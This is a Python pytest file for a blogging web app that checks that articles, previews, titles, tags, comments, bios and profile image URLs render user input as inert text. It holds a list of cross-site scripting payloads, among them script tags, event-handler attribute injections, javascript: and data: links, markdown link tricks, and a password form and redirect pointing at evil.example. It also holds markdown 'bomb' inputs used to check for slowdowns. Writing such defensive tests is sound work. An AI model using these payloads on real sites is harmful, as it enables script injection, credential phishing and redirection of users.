"""What people type is shown as they typed it, and does nothing."""

from time import process_time

import pytest

from accounts.commands import UpdateProfile
from eventstore.dispatch import dispatch
from tests.pages.reading import see

SCRIPT = "<script>alert(1)</script>"
IMAGES = [
    'https://x.example/a.jpg"onerror="alert(1)',
    'https://x.example/a.jpg" onload="alert(1)',
    "https://x.example/a.jpg' onerror='alert(1)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "https://x.example/a.jpg?a=1&b=%22",
]
BODIES = [
    SCRIPT,
    '<img src=x onerror="alert(1)">',
    '<svg onload="alert(1)"><circle/></svg>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<div onmouseover="alert(1)" onclick="alert(1)" onfocus="alert(1)" tabindex="0">x</div>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    '[x](https://x.example "onclick=alert(1)")',
    '![x"onerror="alert(1)](https://x.example/a.png "y"onload="alert(1)")',
    '<div hx-get="/settings" hx-trigger="load" data-hx-post="/logout">x</div>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<style>body{display:none}</style><link rel="stylesheet" href="//evil.example">',
    '<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=//evil.example">',
    "# main {#undo .cx-undo onclick=alert(1)}",
    "```html\n<script>alert(1)</script>\n```",
    '```" onload=alert(1)\n<script>alert(1)</script>\n```',
    "~~~js onmouseover=alert(1)\nx\n~~~",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>x</script> |",
    "- [x] <script>alert(1)</script>",
]
LETHAL = {
    "script",
    "iframe",
    "svg",
    "style",
    "link",
    "meta",
    "base",
    "form",
    "object",
    "embed",
    "math",
    "template",
}


def lethal(content):
    """Elements that do something, and attributes that would."""
    for element in content:
        for name, value in element.attributes.items():
            address = "".join(value.split()).casefold()
            if name.startswith(("on", "hx-", "data-")) or name in {"style", "srcdoc", "formaction"}:
                yield element
            if name in {"href", "src"} and address.startswith(("javascript:", "data:", "vbscript:")):
                yield element
        if element.tag in LETHAL or element.attributes.get("id") in {"undo", "main", "status", "comments"}:
            yield element


def test_a_text_does_nothing_on_its_page(cast, client):
    for body in BODIES:
        article = cast.jake.publishes(body=body)
        page = see(client.get(article.path))
        assert list(lethal(page.one(".article-content"))) == [], body
        assert len(page.all("script:not([src])")) == 1, "the one for machines"


def test_a_text_does_nothing_in_its_preview(cast):
    jake = cast.jake.browser
    for body in BODIES:
        assert list(lethal(see(jake.post("/editor/preview", {"body": body})))) == [], body


def test_a_text_shows_what_was_typed(cast, client):
    page = see(client.get(cast.jake.publishes(body=f"Before: {SCRIPT}").path))
    assert page.one(".article-content p").text == f"Before: {SCRIPT}"


def test_a_text_can_t_use_the_classes_of_the_page(cast, client):
    page = see(
        client.get(cast.jake.publishes(body='<p class="cx-undo btn">x</p>\n\n```cx-undo\nx\n```').path)
    )
    assert not [
        found for found in page.one(".article-content") for name in found.classes if name.startswith("cx-")
    ]


def test_titles_descriptions_and_tags_are_letters(cast, client):
    hostile = f"Before: \"{SCRIPT}' & <b>"
    article = cast.jake.publishes(hostile, description=hostile, tags=("<b>", '"><script>'))
    for path in ("/", cast.jake.path, article.path):
        page = see(client.get(path))
        assert hostile in page.texts("h1")
        assert hostile in page.texts("p")
        assert {"<b>", '"><script>'} <= set(page.texts(".tag-pill"))
        assert [
            script for script in page.all("script:not([src])") if script["type"] != "application/ld+json"
        ] == []
    preview = see(client.get("/")).one(".article-preview")
    assert preview.all("script") == preview.all("b") == []


def test_comments_and_bios_are_letters(cast, client):
    article = cast.jake.publishes()
    cast.jane.says(f"{SCRIPT} *not* [a](b)", article)
    dispatch(UpdateProfile(user_id=cast.jane.id, bio=SCRIPT))
    assert see(client.get(article.path)).one(".card-text").text == f"{SCRIPT} *not* [a](b)"
    assert see(client.get("/profile/jane")).one(".user-info p").text == SCRIPT


@pytest.mark.parametrize("image", IMAGES)
def test_an_image_is_an_address_and_nothing_else(cast, image):
    dispatch(UpdateProfile(user_id=cast.jake.id, image=image))
    article = cast.jake.publishes()
    cast.jake.says("Mine", article)
    jake = cast.jake.browser
    for path in ("/", article.path, cast.jake.path, "/settings"):
        page = see(jake.get(path))
        shown = page.all("img")
        assert {found["src"] for found in shown} == {image}
        assert {name for found in shown for name in found.attributes} <= {
            "alt", "class", "decoding", "height", "loading", "referrerpolicy", "src", "width",
        }  # fmt: skip
        assert all(found["referrerpolicy"] == "no-referrer" for found in shown)


def test_bombs_are_drawn_or_refused_and_never_wait(cast):
    jake = cast.jake.browser
    for bomb in (
        "[" * 20_000,
        "*" * 40_000,
        "> " * 20_000,
        "`" * 50_000,
        "![" * 20_000,
        "|" * 60_000,
        "- " * 20_000,
    ):
        began = process_time()
        assert jake.post("/editor/preview", {"body": bomb}).status_code == 200
        assert process_time() - began < 1, bomb[:2]
